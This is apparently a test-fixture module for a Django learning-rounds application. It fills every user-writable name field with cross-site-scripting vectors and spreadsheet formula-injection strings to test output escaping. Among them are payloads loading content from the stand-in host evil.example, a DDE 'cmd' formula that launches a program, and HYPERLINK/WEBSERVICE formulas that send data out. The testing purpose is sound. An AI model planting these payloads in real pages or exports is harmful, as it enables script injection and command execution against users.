"""Texts that want to become part of a page, or of a spreadsheet, and run; and a world where everybody wrote them."""

from django.conf import settings

from accounts.models import Organisation, User
from learning_rounds.models import LearningGroup, LearningMeeting, LearningRound
from tests import world

IS_POSTGRESQL = "postgresql" in settings.DATABASES["default"]["ENGINE"]

VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p hx-get=//evil.example/x hx-trigger=load>x</p>",
    ' onmouseover=alert(1) autofocus onfocus="alert(1)" x="',
    "javascript:alert(1)//\\u003cscript\\u003ealert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
]
# What ends the place that a text stands in: an attribute, a script, a field, a title, a comment.
ENDINGS = ["", '">', "'>", "</script>", "</textarea>", "</title>", "-->", "]]>"]
PAYLOADS = [ending + vector for ending in ENDINGS for vector in VECTORS]

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "\u200b=", "'=", '"=', ";=", "=\t="]
FORMULAS = [start + rest for start in STARTS for rest in ("1+1+SEED", "cmd|' /C calc'!SEED")]
FORMULAS += ['=HYPERLINK("http://evil.example/?SEED","x")', "=WEBSERVICE(SEED)", "=IMPORTXML(SEED)", "@SUM(SEED)"]

# PostgreSQL holds fields to their length; SQLite takes all of them at once. Every ninth is one of nearly each kind.
EVERYTHING = PAYLOADS[1] if IS_POSTGRESQL else " ".join(PAYLOADS)
SOME = PAYLOADS[1] if IS_POSTGRESQL else " ".join(PAYLOADS[::9])


# Fields that are shorter than some of the texts, beside the word that stands before it in a name.
SHORT = {"COUNTY": 60, "DIARY": 60, "GROUP": 50, "MEETING": 45}


def fitting(text: str, length: int | None) -> str:
    """As much of the text as the field holds, where the database insists on it."""
    return text[:length] if IS_POSTGRESQL else text


def world_of(text: str, monkeypatch) -> world.World:
    """The world, in which everything that somebody can write is that text."""
    monkeypatch.setattr(world, "token", lambda _code, kind: fitting(text, SHORT.get(kind)))
    made = world.make_world()
    LearningRound.objects.update(name=text)
    User.objects.update(display_name=text)
    for model in (Organisation, LearningGroup, LearningMeeting):  # whose names are never alike
        for number, row in enumerate(model.objects.all()):
            name = fitting(text, model._meta.get_field("name").max_length - 3)
            model.objects.filter(pk=row.pk).update(name=f"{name}{number}")
    return made
